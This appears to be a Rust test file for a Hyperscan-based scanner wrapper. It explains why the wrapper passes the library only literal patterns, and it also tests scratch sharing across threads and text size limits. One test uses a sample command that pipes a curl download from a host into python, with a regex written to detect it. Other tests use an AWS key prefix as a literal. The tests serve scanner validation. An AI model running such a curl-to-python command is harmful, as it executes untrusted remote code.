//! Why this library gets literals only, and that its memory may go where the wrapper lets it go.

use super::*;

fn literals(list: &[&str]) -> Vec<Literal> {
    list.iter()
        .map(|text| Literal { bytes: text.as_bytes().to_vec(), ignore_case: false })
        .collect()
}

/// A scanner for a pattern, in block mode.
fn pattern_scanner(pattern: &CStr, flags: c_uint) -> Scanner {
    let (text, id) = (pattern.as_ptr(), 0);
    let mut handle = ptr::null_mut();
    let mut error = ptr::null_mut();
    // SAFETY: as in `Database::new`; the pattern ends with a NUL.
    let status = unsafe {
        sys::hs_compile_multi(
            &raw const text,
            &raw const flags,
            &raw const id,
            1,
            sys::HS_MODE_BLOCK,
            ptr::null(),
            &raw mut handle,
            &raw mut error,
        )
    };
    assert_eq!(status, SUCCESS, "{}", message(error));
    let database = Database { handle: NonNull::new(handle).unwrap(), longest: 0 };
    Scanner::new(&Arc::new(database)).unwrap()
}

/// Where it ends in a text, without a byte behind the text.
fn pattern_ends(scanner: &mut Scanner, text: &[u8]) -> Vec<End> {
    scanner.found.ends.clear();
    scanner.scan_part(text, text.len(), 0).unwrap();
    scanner.found.ends.clone()
}

fn version() -> String {
    // SAFETY: takes nothing; the text is static and ends with a NUL.
    let text = unsafe { sys::hs_version() };
    // SAFETY: as above.
    unsafe { CStr::from_ptr(text) }.to_string_lossy().into_owned()
}

/// Whether the version is one that is known to be wrong.
fn is_known_to_miss() -> bool {
    version().starts_with("5.4.12")
}

#[test]
fn a_pattern_with_a_class_behind_a_wild_card_is_missed_so_no_pattern_is_given_to_it() {
    let text = b"curl http://vader:8080/ 2>&1 | python";
    let pattern = c"curl.*\\|\\s*python";
    assert_eq!(pattern_ends(&mut pattern_scanner(pattern, 0), text).len(), 1);
    let ends = pattern_ends(&mut pattern_scanner(pattern, sys::HS_FLAG_DOTALL), text);
    assert_eq!(ends.is_empty(), is_known_to_miss(), "{}: {ends:?}", version());
}

#[test]
fn a_class_at_the_end_of_the_text_is_missed_without_a_byte_behind_it() {
    let mut scanner = pattern_scanner(c"[0-9]{1,2}c[a-f]*", 0);
    let mut missed = 0;
    let mut missed_padded = 0;
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    for _ in 0..20_000 {
        let mut next = || {
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            (random >> 33) as usize
        };
        let length = 15 + next() % 60;
        let mut text: Vec<u8> = (0..length).map(|_| b"0123abcdefxyz -"[next() % 15]).collect();
        text.extend_from_slice(b"7c");
        let wanted = text.len() as u32;
        let mut is_missed = |text: &[u8]| {
            let ends = pattern_ends(&mut scanner, text);
            u32::from(!ends.iter().any(|end| end.end == wanted))
        };
        missed += is_missed(&text);
        text.push(0);
        missed_padded += is_missed(&text);
    }
    assert_eq!(missed_padded, 0, "{}", version());
    assert_eq!(missed > 0, is_known_to_miss(), "{}: {missed}", version());
}

#[test]
fn a_database_outlives_its_set_as_long_as_a_scanner_has_it() {
    let database = Arc::new(Database::new(&literals(&["AKIA"])).unwrap());
    let mut scanner = Scanner::new(&database).unwrap();
    drop(database);
    assert_eq!(scanner.scan(b"AKIA").unwrap(), [End { index: 0, end: 4 }]);
}

#[test]
fn threads_share_a_database_each_with_a_scratch_of_its_own() {
    let database = Arc::new(Database::new(&literals(&["AKIA", "KI"])).unwrap());
    let text = b"AKIA ".repeat(1000);
    std::thread::scope(|scope| {
        for _ in 0..4 {
            let mut scanner = Scanner::new(&database).unwrap();
            let text = &text;
            scope.spawn(move || {
                for _ in 0..50 {
                    let mut ends = scanner.scan(text).unwrap().to_vec();
                    ends.sort_unstable();
                    ends.dedup();
                    assert_eq!(ends.len(), 2000);
                }
            });
        }
    });
}

#[test]
fn a_text_longer_than_the_library_counts_is_not_scanned() {
    let database = Arc::new(Database::new(&literals(&["AKIA"])).unwrap());
    let mut scanner = Scanner::new(&database).unwrap();
    assert_eq!(scanner.scan_part(b"AKIA", 4, TEXT_BYTES_MAX + 1), Err(Incomplete));
}
